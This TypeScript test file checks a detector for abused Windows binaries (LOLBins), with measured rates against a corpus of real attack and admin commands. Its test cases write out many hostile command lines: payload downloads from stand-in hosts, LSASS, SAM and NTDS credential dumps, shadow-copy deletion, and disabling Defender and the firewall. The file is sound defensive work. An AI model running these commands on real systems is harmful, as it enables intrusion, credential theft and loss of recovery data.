// LOLBin analyzer: the table's shape, documented abuse shapes versus everyday admin use, bounds on
// hostile input, and the measured rates on the shared corpus (real attack commands from Atomic
// Red Team / LOLBAS, documented admin usage from tldr-pages).
import { readFileSync } from 'node:fs';
import { Finding } from '../../src/domain/finding';
import { LOLBINS } from '../../src/analyzers/data/lolbins';
import { analyzeLolbins, LOLBINS_ANALYZER, matchLolbins, normalizeCommandLine } from '../../src/analyzers/lolbins';
import { corpusPath } from '../helpers/corpus';
import { countTextWork } from '../helpers/work';

const ids = (cmd: string) => matchLolbins(cmd).map((h) => h.abuse);
const attack = (cmd: string) => [...new Set(matchLolbins(cmd).flatMap((h) => h.attack))];

describe('LOLBin table', () => {
  it('holds a curated set of binaries, each with a source and abuse shapes with ATT&CK ids', () => {
    const binaries = new Set(LOLBINS.map((e) => e.binary.toLowerCase()));
    expect(binaries.size).toBeGreaterThanOrEqual(60);
    for (const name of [
      'certutil.exe',
      'mshta.exe',
      'rundll32.exe',
      'regsvr32.exe',
      'bitsadmin.exe',
      'wmic.exe',
      'msiexec.exe',
      'installutil.exe',
      'regasm.exe',
      'msbuild.exe',
      'cmstp.exe',
      'forfiles.exe',
      'pcalua.exe',
      'odbcconf.exe',
      'esentutl.exe',
      'expand.exe',
      'extrac32.exe',
      'findstr.exe',
      'hh.exe',
      'ieexec.exe',
      'infdefaultinstall.exe',
      'mavinject.exe',
      'msdt.exe',
      'msconfig.exe',
      'presentationhost.exe',
      'scriptrunner.exe',
      'syncappvpublishingserver.exe',
      'wscript.exe',
      'powershell.exe',
      'bash.exe',
      'curl.exe',
      'wget',
      'sc.exe',
      'schtasks.exe',
      'reg.exe',
      'vssadmin.exe',
      'wevtutil.exe',
      'net.exe',
      'nltest.exe',
      'dsquery.exe',
      'adfind.exe',
      'procdump.exe',
      'ntdsutil.exe',
    ]) {
      expect(binaries).toContain(name);
    }
    const abuseIds = new Set<string>();
    for (const e of LOLBINS) {
      expect(e.source).toMatch(/^(?:LOLBAS https:\/\/lolbas-project\.github\.io\/|MITRE ATT&CK https:\/\/attack\.mitre\.org\/)/);
      expect(e.abuses.length).toBeGreaterThan(0);
      for (const a of e.abuses) {
        expect(abuseIds.has(a.id)).toBe(false);
        abuseIds.add(a.id);
        expect(a.attack.length).toBeGreaterThan(0);
        for (const t of a.attack) expect(t).toMatch(/^T\d{4}(?:\.\d{3})?$/);
        expect(a.score).toBeGreaterThanOrEqual(40);
        expect(a.score).toBeLessThanOrEqual(100);
        const regexes = a.args instanceof RegExp ? [a.args] : (a.args.regexes ?? (a.args.linear ? [a.args.linear] : []));
        expect(regexes.length).toBeGreaterThan(0);
        for (const r of regexes) expect(r.flags).toContain('i');
      }
    }
  });
});

describe('matchLolbins', () => {
  it.each([
    ['certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe', 'certutil-download', 'T1105'],
    ['certutil -verifyctl -f https://evil.example/p.exe p.exe', 'certutil-download', 'T1105'],
    ['certutil -decode payload.b64 payload.exe', 'certutil-decode', 'T1140'],
    ['mshta.exe javascript:a=GetObject("script:https://evil.example/x.sct").Exec();close();', 'mshta-inline-script', 'T1218.005'],
    ['mshta https://evil.example/run.hta', 'mshta-remote', 'T1218.005'],
    ['rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 'rundll32-comsvcs-minidump', 'T1003.001'],
    ['rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'rundll32-script', 'T1218.011'],
    ['rundll32.exe url.dll,FileProtocolHandler calc.exe', 'rundll32-proxy-export', 'T1218.011'],
    ['rundll32 C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,Start', 'rundll32-user-dir-dll', 'T1218.011'],
    ['regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll', 'regsvr32-scriptlet', 'T1218.010'],
    ['bitsadmin /transfer job /download /priority high http://evil.example/a.exe C:\\a.exe', 'bitsadmin-download', 'T1197'],
    ['bitsadmin /SetNotifyCmdLine 1 c:\\data\\cmd.exe NULL', 'bitsadmin-notify-cmd', 'T1197'],
    ['wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"', 'wmic-remote-process', 'T1047'],
    ['wmic shadowcopy delete /nointeractive', 'wmic-shadowcopy-delete', 'T1490'],
    ['wmic os get /format:"https://evil.example/x.xsl"', 'wmic-xsl-format', 'T1220'],
    ['msiexec /q /i http://evil.example/p.msi', 'msiexec-remote', 'T1218.007'],
    [
      'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U payload.dll',
      'installutil-uninstall-hook',
      'T1218.004',
    ],
    ['regasm.exe /U evil.dll', 'regasm-load', 'T1218.009'],
    ['msbuild.exe C:\\Users\\Public\\build.csproj', 'msbuild-inline-project', 'T1127.001'],
    ['cmstp.exe /ni /s C:\\Users\\Public\\x.inf', 'cmstp-silent-inf', 'T1218.003'],
    ['forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c powershell -nop -c calc"', 'forfiles-proxy', 'T1202'],
    ['pcalua.exe -a C:\\Users\\Public\\evil.exe', 'pcalua-launch', 'T1202'],
    ['odbcconf /a {REGSVR C:\\Users\\Public\\x.dll}', 'odbcconf-dll', 'T1218.008'],
    ['esentutl.exe /y /vss c:\\windows\\ntds\\ntds.dit /d c:\\temp\\ntds.dit', 'esentutl-vss-copy', 'T1003.003'],
    ['expand \\\\10.0.0.5\\share\\payload.bat C:\\Users\\Public\\payload.bat', 'expand-remote', 'T1105'],
    ['extrac32 /Y /C \\\\10.0.0.5\\share\\a.exe C:\\Users\\Public\\a.exe', 'extrac32-copy', 'T1105'],
    ['findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml', 'findstr-gpp-password', 'T1552.006'],
    ['hh.exe http://evil.example/doc.chm', 'hh-remote', 'T1218.001'],
    ['ieexec.exe http://evil.example/a.exe', 'ieexec-remote', 'T1218'],
    ['InfDefaultInstall.exe evil.inf', 'infdefaultinstall-inf', 'T1218'],
    ['MavInject.exe 3110 /INJECTRUNNING C:\\Users\\Public\\x.dll', 'mavinject-inject', 'T1218.013'],
    ['msdt.exe /id PCWDiagnostic /skip force /param "IT_BrowseForFile=/../../$(calc).exe"', 'msdt-browse-injection', 'T1202'],
    ['Presentationhost.exe https://evil.example/app.xbap', 'presentationhost-remote', 'T1218'],
    ['ScriptRunner.exe -appvscript C:\\Users\\Public\\a.cmd', 'scriptrunner-appvscript', 'T1218'],
    [
      'SyncAppvPublishingServer.exe "n;(New-Object Net.WebClient).DownloadString(\'http://evil.example/p\') | IEX"',
      'syncappvpublishingserver-powershell',
      'T1216.002',
    ],
    ['wscript //e:jscript C:\\Users\\Public\\invoice.txt', 'wscript-engine-swap', 'T1059.007'],
    ['cscript //nologo C:\\Users\\bob\\AppData\\Roaming\\run.vbs', 'wscript-user-dir', 'T1059.005'],
    [
      'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')"',
      'powershell-download-exec',
      'T1105',
    ],
    ['wsl.exe -u root -e cat /etc/shadow', 'wsl-root-exec', 'T1202'],
    ['curl http://evil.example/s.sh | bash', 'curl-pipe-shell', 'T1105'],
    ['sc.exe stop WinDefend', 'sc-defender-off', 'T1562.001'],
    ['sc create evil binpath= "cmd /c C:\\Users\\Public\\x.exe"', 'sc-create-shell', 'T1543.003'],
    [
      'schtasks /create /ru system /sc daily /tr "cmd /c powershell.exe -ep bypass -file c:\\x.ps1" /tn t /f',
      'schtasks-create-shell',
      'T1053.005',
    ],
    ['reg save HKLM\\SAM C:\\temp\\sam', 'reg-hive-dump', 'T1003.002'],
    [
      'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
      'reg-wdigest',
      'T1003.001',
    ],
    [
      'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
      'reg-ifeo-debugger',
      'T1546.012',
    ],
    ['vssadmin.exe delete shadows /all /quiet', 'vssadmin-delete-shadows', 'T1490'],
    ['wevtutil cl Security', 'wevtutil-clear', 'T1070.001'],
    ['net localgroup administrators eviluser /add', 'net-admin-group-add', 'T1098'],
    ['net1 user backdoor P@ssw0rd! /add', 'net-user-add', 'T1136.001'],
    ['nltest /domain_trusts /all_trusts', 'nltest-trusts', 'T1482'],
    ['dsquery * -filter "(objectClass=user)" -limit 0', 'dsquery-ldap', 'T1087.002'],
    ['AdFind.exe -f (objectcategory=computer) -csv name', 'adfind-query', 'T1087.002'],
    ['procdump.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp', 'procdump-lsass', 'T1003.001'],
    ['ntdsutil "ac i ntds" "ifm" "create full C:\\temp\\ntds" q q', 'ntdsutil-ifm', 'T1003.003'],
    ['bcdedit /set {default} recoveryenabled No', 'bcdedit-recovery-off', 'T1490'],
    ['netsh advfirewall set allprofiles state off', 'netsh-firewall-off', 'T1562.004'],
  ])('%s → %s', (cmd, abuse, technique) => {
    expect(ids(cmd)).toContain(abuse);
    expect(attack(cmd)).toContain(technique);
  });

  it.each([
    'certutil -hashfile C:\\Windows\\notepad.exe SHA256',
    'certutil -store my',
    'net user',
    'net use',
    'net view \\\\fileserver',
    'schtasks /query /fo LIST /v',
    'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion',
    'msiexec /i C:\\Installers\\7zip.msi',
    'rundll32.exe printui.dll,PrintUIEntry /in /n \\\\printsrv\\hp',
    'wmic process list brief',
    'sc query WinDefend',
    'vssadmin list shadows',
    'wevtutil qe Security /c:5',
    'findstr /s /i "error" *.log',
    'bitsadmin /list /allusers',
    'mshta.exe',
    'powershell -NoProfile -Command Get-Service',
    '(New-Object Net.WebClient).Headers',
    '$s -replace "a","b"',
    'curl -I https://example.com',
    'wget https://example.com/archive.tar.gz',
  ])('everyday use is not a hit: %s', (cmd) => {
    expect(matchLolbins(cmd)).toEqual([]);
  });

  it('undoes cmd.exe caret and empty-quote escapes before matching', () => {
    expect(normalizeCommandLine('c^e^r^t^u^t^i^l -url""cache')).toBe('certutil -urlcache');
    expect(ids('c^e^r^t^u^t^i^l -urlc^ache -f http://evil.example/a.exe a.exe')).toContain('certutil-download');
    expect(ids('cert""util -decode a.b64 a.exe')).toContain('certutil-decode');
  });

  it('keeps an abuse tied to its own command in a chain', () => {
    // The URL belongs to curl, not to the certutil that only hashes.
    expect(ids('certutil -hashfile a.exe && curl -o a.exe https://example.com/a.exe')).not.toContain('certutil-download');
  });
});

describe('analyzeLolbins', () => {
  it('returns a valid finding with evidence, ATT&CK ids and a malicious verdict for strong abuse', () => {
    const f = analyzeLolbins(['certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe', 'nltest /dclist:corp']);
    expect(Finding.parse(f)).toEqual(f);
    expect(f.analyzer).toBe(LOLBINS_ANALYZER);
    expect(f.verdict).toBe('malicious');
    expect(f.score).toBe(80);
    expect(f.attack).toEqual(expect.arrayContaining(['T1105', 'T1018']));
    expect(f.evidence.join('\n')).toContain('certutil-download');
  });

  it('calls discovery alone suspicious and clean lines benign', () => {
    expect(analyzeLolbins(['nltest /domain_trusts']).verdict).toBe('suspicious');
    const clean = analyzeLolbins(['ipconfig /all', 'certutil -hashfile a.exe']);
    expect(clean.verdict).toBe('benign');
    expect(clean.score).toBe(0);
    expect(analyzeLolbins([]).verdict).toBe('unknown');
  });

  it('turns malformed input into a finding with an error, never a throw', () => {
    const notArray = analyzeLolbins('certutil -urlcache' as unknown as string[]);
    expect(notArray.error).toMatch(/array/);
    const mixed = analyzeLolbins([42 as unknown as string, 'vssadmin delete shadows /all']);
    expect(mixed.error).toMatch(/not strings/);
    expect(mixed.verdict).toBe('malicious');
  });

  it('stays bounded on hostile input (long tokens, repeated switches, thousands of lines)', async () => {
    const hostile = [
      `certutil -urlcache ${'a\\'.repeat(30_000)}`,
      `findstr ${'/v /l '.repeat(10_000)}`,
      `schtasks /create ${'/tr /tr '.repeat(8_000)}`,
      `mshta ${'a:'.repeat(30_000)}`,
      `reg add ${'HKLM\\'.repeat(12_000)}`,
      'x'.repeat(2 << 20),
    ];
    const lines = [...hostile, ...Array(3000).fill('certutil -urlcache -f http://x.example/a a')];
    const { value: f, work } = await countTextWork(() => analyzeLolbins(lines));
    // The first 1000 command lines, each cut at 64 KiB (the 2 MB line too), a bounded number of
    // regex passes over each character.
    const examined = lines.slice(0, 1000).reduce((n, l) => n + Math.min(l.length, 64 * 1024), 0);
    expect(work.longestInput).toBeLessThanOrEqual(64 * 1024);
    expect(work.execs).toBeLessThan(200 * 1000);
    expect(work.charsScanned + work.indexOfChars).toBeLessThan(200 * examined);
    expect(f.evidence.length).toBeLessThanOrEqual(60);
    expect(f.verdict).toBe('malicious');
  });
});

// ---- corpus measurements ---------------------------------------------------------------------

interface MaliciousRecord {
  command: string;
  platform: string[];
  technique: string;
  binary?: string;
}
interface AdminRecord {
  command: string;
  tool: string;
  binary_also_in_lolbas: boolean;
}

const readJsonl = <T>(file: string): T[] =>
  readFileSync(corpusPath('commands', file), 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as T);

/** LOLBAS commands keep placeholders ({REMOTEURL}, {PATH_ABSOLUTE:.dll} ...): fill them with neutral values. */
function renderLolbas(cmd: string): string {
  return cmd
    .replace(/\{PATH_ABSOLUTE:folder\}/g, 'C:\\data\\stage')
    .replace(/\{PATH_ABSOLUTE:([^}]*)\}/g, (_, e: string) => `C:\\data\\file${e}`)
    .replace(/\{PATH_ABSOLUTE\}/g, 'C:\\data\\file.txt')
    .replace(/\{PATH_SMB:folder\}/g, '\\\\fileserver\\share\\stage')
    .replace(/\{PATH_SMB:([^}]*)\}/g, (_, e: string) => `\\\\fileserver\\share\\file${e}`)
    .replace(/\{PATH_SMB\}/g, '\\\\fileserver\\share\\file.txt')
    .replace(/\{PATH:([^}]*)\}/g, (_, e: string) => `file${e}`)
    .replace(/\{PATH\}/g, 'file.txt')
    .replace(/\{REMOTEURL:([^}]*)\}/g, (_, e: string) => `https://example.org/file${e}`)
    .replace(/\{REMOTEURL\}/g, 'https://example.org/file')
    .replace(/\{CMD:args\}/g, '-arg')
    .replace(/\{CMD\}/g, 'calc.exe')
    .replace(/\{(?:LSASS_PID|PID)\}/g, '672')
    .replace(/\{(?:GUID|CLSID)\}/g, '{0d4f3c2e-1111-4b8e-9f0a-123456789abc}');
}

/**
 * ATT&CK v18 (the corpus's Atomic Red Team commit) renumbered the Impair Defenses sub-techniques
 * this table still cites by their long-standing ids; both name the same behaviour.
 */
const V18_TO_CLASSIC: Record<string, string> = {
  T1685: 'T1562.001',
  'T1685.001': 'T1562.002',
  'T1685.005': 'T1070.001',
  T1686: 'T1562.004',
};
const parent = (t: string) => t.split('.')[0];

describe('LOLBin analyzer on the shared corpus', () => {
  const malicious = readJsonl<MaliciousRecord>('malicious_commands.jsonl');
  const admin = readJsonl<AdminRecord>('admin_commands_tldr.jsonl');

  it('detects LOLBin abuse in real attack commands and agrees with their technique ids', () => {
    let detected = 0,
      windows = 0,
      windowsDetected = 0,
      lolbas = 0,
      lolbasDetected = 0,
      exact = 0,
      sameParent = 0;
    for (const r of malicious) {
      const hits = matchLolbins(r.binary ? renderLolbas(r.command) : r.command);
      const isWindows = r.platform.includes('windows');
      if (isWindows) windows++;
      if (r.binary) lolbas++;
      if (hits.length === 0) continue;
      detected++;
      if (isWindows) windowsDetected++;
      if (r.binary) lolbasDetected++;
      const stated = V18_TO_CLASSIC[r.technique] ?? r.technique;
      const ours = hits.flatMap((h) => h.attack);
      if (ours.includes(stated)) exact++;
      if (ours.some((t) => parent(t) === parent(stated))) sameParent++;
    }
    const pct = (a: number, b: number) => `${a}/${b} (${((100 * a) / b).toFixed(1)}%)`;
    console.log(
      [
        `LOLBin detection on malicious_commands.jsonl: all ${pct(detected, malicious.length)}, windows ${pct(windowsDetected, windows)}, LOLBAS entries ${pct(lolbasDetected, lolbas)}`,
        `technique agreement on detected records: exact ${pct(exact, detected)}, same parent technique ${pct(sameParent, detected)}`,
      ].join('\n'),
    );
    // Measured when written: 696/2285 all (30.5%), 683/1698 windows (40.2%), 389/482 LOLBAS (80.7%);
    // technique exact 550/696 (79.0%), same parent 577/696 (82.9%).
    expect(malicious.length).toBe(2285);
    expect(detected).toBeGreaterThanOrEqual(696);
    expect(windowsDetected).toBeGreaterThanOrEqual(683);
    expect(lolbasDetected).toBeGreaterThanOrEqual(389);
    expect(exact / detected).toBeGreaterThanOrEqual(0.79);
    expect(sameParent / detected).toBeGreaterThanOrEqual(0.82);
  });

  it('rarely flags documented admin usage (context decides for binaries LOLBAS also lists)', () => {
    let flagged = 0,
      malicious75 = 0,
      lolbasTools = 0,
      lolbasFlagged = 0;
    for (const r of admin) {
      const hits = matchLolbins(r.command.replace(/\{\{|\}\}/g, ''));
      if (r.binary_also_in_lolbas) lolbasTools++;
      if (hits.length === 0) continue;
      flagged++;
      if (r.binary_also_in_lolbas) lolbasFlagged++;
      if (Math.max(...hits.map((h) => h.score)) >= 75) malicious75++;
    }
    console.log(
      `LOLBin flags on admin_commands_tldr.jsonl: ${flagged}/${admin.length} (${((100 * flagged) / admin.length).toFixed(1)}%), ${malicious75} at malicious level; binaries also in LOLBAS: ${lolbasFlagged}/${lolbasTools}`,
    );
    // Measured when written: 17/2103 flagged (0.8%), 1 at malicious level, 9 of the 229 LOLBAS-listed tools.
    expect(admin.length).toBe(2103);
    expect(lolbasTools).toBe(229);
    expect(flagged).toBeLessThanOrEqual(17);
    expect(malicious75).toBeLessThanOrEqual(1);
    expect(lolbasFlagged).toBeLessThanOrEqual(9);
  });
});
